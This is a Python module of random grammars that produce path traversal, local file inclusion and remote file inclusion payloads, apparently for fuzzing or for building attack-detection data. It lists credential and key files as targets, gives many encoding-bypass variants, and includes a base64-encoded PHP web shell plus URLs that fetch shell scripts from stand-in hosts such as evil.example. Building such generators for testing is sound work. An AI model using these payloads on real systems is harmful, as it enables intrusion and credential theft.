"""Path traversal, file inclusion and RFI attack grammars. Each function takes the explicit random.Random and
returns a payload."""
import base64

from ..draw import pick

TRAV_TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ", "etc/issue", "WEB-INF/web.xml",
                "var/log/apache2/access.log", "windows/system32/drivers/etc/hosts", ".htaccess", ".env", "config/database.yml", "proc/self/cmdline", "root/.ssh/id_rsa", "etc/nginx/nginx.conf", "wp-config.php"]
# Host files by the families a traversal goes after, for breadth beyond the few every list starts with: system
# configuration, logs of the usual servers, process and kernel files, application secrets, Windows system files.
HOST_FILES = ["etc/group", "etc/fstab", "etc/crontab", "etc/sudoers", "etc/resolv.conf", "etc/hostname", "etc/motd", "etc/profile", "etc/os-release",
              "etc/mtab", "etc/inittab", "etc/exports", "etc/ssh/sshd_config", "etc/mysql/my.cnf", "etc/php/8.2/apache2/php.ini", "etc/httpd/conf/httpd.conf",
              "etc/apache2/apache2.conf", "etc/vsftpd.conf", "etc/proftpd.conf", "etc/samba/smb.conf", "etc/redis/redis.conf", "etc/postgresql/15/main/pg_hba.conf",
              "var/log/nginx/error.log", "var/log/httpd/error_log", "var/log/auth.log", "var/log/syslog", "var/log/messages", "var/log/mail.log",
              "var/log/vsftpd.log", "var/mail/root", "var/spool/cron/crontabs/root", "usr/local/apache2/conf/httpd.conf", "usr/local/etc/php.ini",
              "opt/lampp/etc/httpd.conf", "apache/logs/access.log", "apache2/logs/error.log", "xampp/apache/conf/httpd.conf", "proc/version", "proc/self/status",
              "proc/self/fd/2", "proc/net/tcp", "proc/1/environ", "sys/class/net/eth0/address", "root/.bash_history", "home/www/.bash_history",
              "root/.aws/credentials", "var/run/secrets/kubernetes.io/serviceaccount/token", "run/secrets/db_password", ".git/config", ".git/HEAD",
              ".svn/entries", ".DS_Store", "composer.json", "config.php", "configuration.php", "LocalSettings.php", "app/etc/env.php", "config/secrets.yml",
              "settings.py", "application.properties", "web.config", "global.asa", "inetpub/wwwroot/web.config", "windows/system32/config/sam",
              "windows/repair/sam", "windows/system.ini", "windows/panther/unattend.xml", "winnt/win.ini", "boot/grub/grub.cfg", "Program Files/Apache Group/Apache/conf/httpd.conf"]
def trav_dotdot(r):
    d = r.randint(1, 10)
    t = pick(r, TRAV_TARGETS) if r.random() < 0.5 else pick(r, HOST_FILES)
    up = pick(r, ["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%5c", "%252e%252e%252f", "..%c0%af", "..%u2216", ".%2e/", "..///", "/..", "..%00/",
                  "0x2e0x2e0x2f", "..0x2f", "0x2e0x2e0x5c", "..0x5c", "%c0%2e%c0%2e%c0%2f", "%c0%ae%c0%ae/", "%e0%80%ae%e0%80%ae/", "..%c1%9c", "%uff0e%uff0e/",
                  "..%255c", "%%32%65%%32%65/", ".../", "..\\/", "/./../", "%2e%2e%5c", "..2f", "..5c", "%2e%2e2f",
                  # Four- to six-byte overlong forms and Windows best-fit slashes.
                  "%f0%80%80%ae%f0%80%80%ae%f0%80%80%af", "%f8%80%80%80%ae%f8%80%80%80%ae%f8%80%80%80%af",
                  "%fc%80%80%80%80%ae%fc%80%80%80%80%ae%fc%80%80%80%80%af", "..%u2215", "..%u2216", "%e0%80%ae%e0%80%ae%e0%80%af"])
    sep = "\\" if "\\" in up or "5c" in up.lower() else "/"
    if "%" not in up and up[-2:] in ("2f", "5c"):
        # Escapes that lost their "%" on the way ("..2f..2fetc2fpasswd").
        sep = up[-2:]
    return pick(r, ["", "/", "./", "static/", "images/", "file=", ""]) + up * d + t.replace("/", sep) + pick(r, ["", "", "%00", "%00.jpg", "%00.html", "?", "#"])


def trav_abs(r):
    t = pick(r, TRAV_TARGETS) if r.random() < 0.4 else pick(r, HOST_FILES)
    return pick(r, [f"/{t}", f"file:///{t}", f"c:\\{t.replace('/', chr(92))}", f"C:/{t}", f"\\\\localhost\\c$\\{t.replace('/', chr(92))}",
                 f"/var/www/../../{t}", f"/proc/self/fd/{r.randint(0, 9)}", f"file://localhost/{t}", f"/{t}%00", f"//{t}", f"/{t}", f"\\{t.replace('/', chr(92))}",
                 f"/{t}%00.html", f"/private/{t}"])


def lfi_wrapper(r):
    f = pick(r, ["index.php", "config.php", "../config.php", "/etc/passwd", "admin.php"])
    return pick(r, [f"php://filter/convert.base64-encode/resource={f}", f"php://filter/read=string.rot13/resource={f}", "php://input", "expect://id",
                 f"data://text/plain;base64,{base64.b64encode(b'<?php system($_GET[c]); ?>').decode()}", f"zip://uploads/avatar.jpg%23shell.php",
                 f"phar://uploads/x.phar/{f}", f"php://filter/resource={f}", "data:text/plain,<?php phpinfo(); ?>", f"glob://{f}", f"jar:file:///tmp/x.jar!/{f}",
                 f"php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource={f}",
                 f"convert.iconv.{pick(r, ['IBM037', 'L1', 'UTF8', 'CSUNICODE', 'IBM273'])}.{pick(r, ['IBM256', 'UTF7', 'UCS-2BE', 'ES', 'CSISO2022KR'])}"])


def rfi(r):
    host = pick(r, ["evil.example", "attacker.example.com", "10.1.2.3", "xn--e1afmkfd.example", "pastebin.example/raw"])
    return pick(r, [f"http://{host}/shell.txt?", f"https://{host}/c99.php", f"http://{host}/x.txt%00", f"ftp://{host}/shell.php",
                 f"//{host}/shell.php?", f"http://{host}/r57.txt??", f"\\\\{host}\\share\\shell.php", f"https://{host}/inc.txt#", f"http://{host}/backdoor.php?cmd=id"])


